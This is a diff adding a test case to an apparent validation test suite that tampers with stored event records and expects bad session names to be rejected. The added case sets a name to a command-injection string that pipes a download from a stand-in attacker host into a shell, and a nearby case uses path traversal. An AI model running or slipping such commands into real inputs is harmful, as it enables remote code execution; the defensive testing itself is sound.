@@ -276,6 +276,10 @@ ENDLESS = "with recursive n(i) as (select 0 union all select i + 1 from n) selec
             script('update events set body = replace(body, \'"name":"\', \'"name":"../\') where seq = 0'),
             "cannot be the name of a session",
         ),
+        (
+            script("update events set body = json_set(body, '$.name', 'night; curl evil.example|sh') where seq = 0"),
+            "cannot be the name of a session",
+        ),
         (script("update events set body = json_set(body, '$.slots', 1000000001) where seq = 0"), "100000"),
         (script("update events set body = json_set(body, '$.limits.hours', 1e300) where seq = 0"), "1000000"),
         (
